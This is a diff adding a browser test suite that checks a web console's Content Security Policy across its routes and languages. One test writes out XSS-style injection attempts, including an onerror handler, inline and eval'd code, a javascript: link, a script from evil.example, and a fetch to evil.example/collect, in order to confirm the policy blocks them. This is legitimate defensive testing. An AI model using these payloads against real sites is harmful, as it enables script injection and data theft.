@@ -1,0 +1,132 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { languages } from '#contract/languages.ts';
+import { planSteps } from '#contract/plan.ts';
+import { patterns } from '#config/paths.ts';
+import { type Stage, startStage, visit } from '#tests/support/browser.ts';
+import { journeyOf } from '#tests/support/journey.ts';
+import { settled, watchPolicy } from '#tests/support/policy-watch.ts';
+
+let stage: Stage;
+beforeAll(async () => {
+  stage = await startStage();
+});
+afterAll(() => stage.stop());
+
+const doors = [patterns.login, patterns.resetPassword, patterns.newPassword, patterns.passwordChanged, patterns.invitation];
+
+// Every pattern of the console, whoever adds one; a parameter nobody has told about fails.
+const addressesOf = (pattern: string, ids: Readonly<Record<string, readonly string[]>>): string[] => {
+  const name = /:(\w+)/.exec(pattern)?.[1];
+  if (name === undefined) return [pattern];
+  const values = ids[name];
+  if (!values) throw new Error(`Say what stands for :${name} in ${pattern}`);
+  return values.flatMap((value) => addressesOf(pattern.replace(`:${name}`, value), ids));
+};
+
+describe.each(languages)('under the security policy, in %s', (language) => {
+  it('every screen runs, and asks nobody else for anything', async () => {
+    const { context, page, complaints } = await visit(stage, { language });
+    const { violations, foreign } = await watchPolicy(context, stage.address);
+    const token = await stage.server.signIn('planner@acme.example');
+    const campaigns: { id: string; status: string }[] = (
+      await stage.server.request('GET', '/enterprise-api/v1/campaigns?size=100', { token })
+    ).body.content;
+    const idOf = (status: string): string => campaigns.find((campaign) => campaign.status === status)?.id ?? '';
+    const ids = {
+      campaignId: [idOf('PLANNING'), idOf('EXECUTION')],
+      step: planSteps,
+      itemId: [idOf('PLANNING_REVIEW')],
+      token: ['AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'],
+    };
+    for (const pattern of doors) {
+      for (const address of addressesOf(pattern, ids)) {
+        await page.goto(address);
+        await settled(page);
+      }
+    }
+    const reviewed: string[] = [patterns.review, patterns.reviewItem, patterns.settings];
+    for (const [username, shown] of [
+      ['planner@acme.example', [...Object.values(patterns), '/nowhere']],
+      ['am@provider.example', reviewed],
+    ] as const) {
+      await page.goto('/login');
+      await page.evaluate(() => localStorage.removeItem('access_token'));
+      await journeyOf(page, language).signIn(username);
+      await page.getByRole('banner').waitFor();
+      for (const pattern of shown) {
+        if (doors.some((door) => door === pattern)) continue;
+        for (const address of addressesOf(pattern, ids)) {
+          await page.goto(address);
+          await settled(page);
+        }
+      }
+      await page.evaluate(() => localStorage.clear());
+      await page.evaluate((code) => localStorage.setItem('language', code), language);
+    }
+
+    expect(violations).toEqual([]);
+    expect(foreign).toEqual([]);
+    // The browser's own remark on refusals that are meant: a forbidden page, a wrong invitation.
+    expect(complaints.filter((complaint) => !/Failed to load resource: .* status of 40[0134]/.test(complaint))).toEqual([]);
+    await context.close();
+  });
+});
+
+describe('the policy', () => {
+  it('stops what it is there for: inline scripts and handlers, foreign code, markup out of text, and code out of text', async () => {
+    const { context, page } = await visit(stage);
+    const { violations } = await watchPolicy(context, stage.address);
+    await page.goto('/login');
+    await settled(page);
+    const ran = await page.evaluate(async () => {
+      // What the test itself evaluates may make code out of text; what the page does later may not.
+      await new Promise((resolve) => setTimeout(resolve, 0));
+      const attempt = (work: () => unknown): void => {
+        try {
+          work();
+        } catch {
+          // Refused, as it should be.
+        }
+      };
+      attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.ran=1">'));
+      attempt(() => (document.body.appendChild(document.createElement('p')).innerHTML = '<b>bold</b>'));
+      attempt(() => {
+        const script = document.createElement('script');
+        script.src = 'https://evil.example/a.js';
+        document.head.append(script);
+      });
+      attempt(() => {
+        const script = document.createElement('script');
+        script.textContent = 'window.ran = 2';
+        document.head.append(script);
+      });
+      // oxlint-disable-next-line typescript/no-implied-eval -- what the policy has to stop
+      attempt(() => new Function('window.ran = 3')());
+      attempt(() => {
+        const link = document.createElement('a');
+        link.href = 'javascript:window.ran=4';
+        document.body.append(link);
+        link.click();
+      });
+      await fetch('https://evil.example/collect').catch(() => undefined);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return (window as { ran?: number }).ran ?? null;
+    });
+    expect(ran).toBeNull();
+    expect(new Set(violations.map((violation) => violation.split(' ')[1]))).toEqual(
+      new Set(['require-trusted-types-for', 'script-src-elem', 'connect-src']),
+    );
+    await context.close();
+  });
+
+  it('says whose words a deployment has, and lets an unknown host call nobody but its own origin', async () => {
+    const { context, page } = await visit(stage, { language: 'jp' });
+    const { foreign } = await watchPolicy(context, stage.address);
+    const response = await page.goto('/login');
+    expect(response?.headers()['content-security-policy']).toContain("connect-src 'self';");
+    await settled(page);
+    expect(await page.locator('html').getAttribute('lang')).toBe('ja-JP');
+    expect(foreign).toEqual([]);
+    await context.close();
+  });
+});
